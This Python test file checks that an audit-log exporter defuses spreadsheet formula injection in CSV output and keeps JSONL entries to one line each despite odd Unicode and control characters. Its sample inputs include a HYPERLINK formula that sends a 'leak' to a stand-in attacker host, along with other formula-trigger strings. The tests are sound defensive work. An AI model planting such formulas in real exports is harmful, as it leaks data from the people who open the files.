"""An export is data to whoever opens it: no spreadsheet runs a cell, no JSON reader splits a line."""

from __future__ import annotations

import csv
import io
import json

from knowledge.store import audit, audit_export
from knowledge.store.audit import Caller
from knowledge.store.database import Database
from tests.support.keys import AUDIT_KEY

# What an officer may type, or a console operator's name may hold; queries are cleaned as they are
# logged, so the tab before "=1+1" goes and leaves a formula behind.
QUERIES = ['=HYPERLINK("http://evil.example/?leak","open")', "@SUM(1)", "+1+1", "-1+1", "\t=1+1", "AB12 CDE"]
ACTORS = ["\t=2+2", "\r=3+3", "console:ops"]


async def _write(db: Database, queries: list[str], actors: list[str], record_ids: list[str]) -> None:
    for query, actor, ids in zip(queries, actors, record_ids, strict=True):
        who = Caller(actor=actor, role="admin", channel="cli", chat_id=-1001234)
        async with db.sessions() as session, session.begin():
            await audit.record(session, who, query=query, intent="help", outcome="answered", record_ids=[ids])


async def _export(db: Database, fmt: str) -> str:
    return "".join([chunk async for chunk in audit_export.export(db, since=None, fmt=fmt)])


async def test_a_csv_export_hands_a_spreadsheet_no_formula(audit_url: str) -> None:
    db = Database(audit_url, audit_key=AUDIT_KEY)
    await _write(db, QUERIES, ["console:ops"] * len(QUERIES), ["vehicle:AB12CDE"] * len(QUERIES))
    await _write(db, ["help"] * 3, ACTORS, ["@x", "-y", "person:P000001"])
    rows = list(csv.DictReader(io.StringIO(await _export(db, "csv"))))
    await db.dispose()
    assert [r["query"] for r in rows[:6]] == [
        '\'=HYPERLINK("http://evil.example/?leak","open")', "'@SUM(1)", "'+1+1", "'-1+1", "'=1+1", "AB12 CDE",
    ]  # fmt: skip
    assert [r["actor"] for r in rows[6:]] == ["'\t=2+2", "'\r=3+3", "console:ops"]
    assert [r["record_ids"] for r in rows[6:]] == ["'@x", "'-y", "person:P000001"]
    assert {r["chat_id"] for r in rows} == {"-1001234"}  # a number stays a number
    assert rows[0]["intent"] == "help" and rows[0]["outcome"] == "answered"


async def test_a_jsonl_export_keeps_one_entry_a_line_whatever_the_text(audit_url: str) -> None:
    db = Database(audit_url, audit_key=AUDIT_KEY)
    odd = ["a\u2028b", "c\u2029d", "e\x85f", "g\x7fh", "i\u202ej", "k\x1bl", "Zoë 👮"]
    await _write(db, ["help"] * len(odd), odd, ["vehicle:AB12CDE"] * len(odd))
    out = await _export(db, "jsonl")
    await db.dispose()
    lines = out.splitlines()  # str.splitlines breaks at U+2028, U+2029 and NEL too, as some readers do
    assert len(lines) == len(odd)
    assert [json.loads(line)["actor"] for line in lines] == odd
    assert all(ch not in out for ch in "\u2028\u2029\x85\x7f\u202e\x1b")
    assert "Zoë 👮" in out  # readable text is left as it is
